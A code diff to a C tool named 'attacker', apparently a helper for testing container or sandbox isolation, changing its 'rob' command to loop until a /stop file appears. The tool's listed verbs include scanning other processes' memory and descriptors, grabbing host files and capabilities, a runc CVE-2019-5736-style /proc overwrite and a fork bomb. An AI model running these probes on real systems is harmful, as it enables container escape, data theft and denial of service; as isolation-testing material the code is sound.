@@ -5,7 +5,8 @@
  *   attacker swap A B             exchange two paths for ever
  *   attacker calls < CALLS        make system calls (abi 64, 32 or x32, number, three arguments): "ok" or "errno N" each
  *   attacker spy SECONDS          reach for every process that comes up: its executable, descriptors, root, memory
- *   attacker rob PATH SECONDS     the same for what a tracer may have: the host's file, descriptors, capabilities
+ *   attacker rob PATH             the same for what a tracer may have, until there is a file /stop: the host's file PATH,
+ *                                 descriptors, capabilities
  *   attacker overwrite PATH       reopen a file for writing through /proc, as runc's was (CVE-2019-5736)
  *   attacker bomb                 fork until it fails; prints how often it went well
  *   attacker ids                  real, effective and saved user and group
@@ -226,12 +227,11 @@ static void rob_one(const char *directory, const char *treasure, unsigned long l
     loot.descriptors += counts(directory, descriptors);
 }
 
-static int rob(const char *treasure, int seconds) {
+static int rob(const char *treasure) {
     char directory[64];
-    time_t end = time(NULL) + seconds;
     unsigned long long ours = permitted("/proc/self");
 
-    while (time(NULL) < end) {
+    while (access("/stop", F_OK) != 0) {
         DIR *processes = opendir("/proc");
         if (!processes) return 1;
         for (struct dirent *entry; (entry = readdir(processes));) {
@@ -283,7 +283,7 @@ int main(int argc, char **argv) {
     if (strcmp(verb, "swap") == 0 && argc == 4) swap(argv[2], argv[3]);
     if (strcmp(verb, "calls") == 0) return make_calls();
     if (strcmp(verb, "spy") == 0 && argc == 3) return spy(atoi(argv[2]));
-    if (strcmp(verb, "rob") == 0 && argc == 4) return rob(argv[2], atoi(argv[3]));
+    if (strcmp(verb, "rob") == 0 && argc == 3) return rob(argv[2]);
     if (strcmp(verb, "overwrite") == 0 && argc == 3)
         return overwrite(argv[2], NULL) < 0 ? (puts("refused"), 1) : (puts("written"), 0);
     if (strcmp(verb, "bomb") == 0) return bomb();
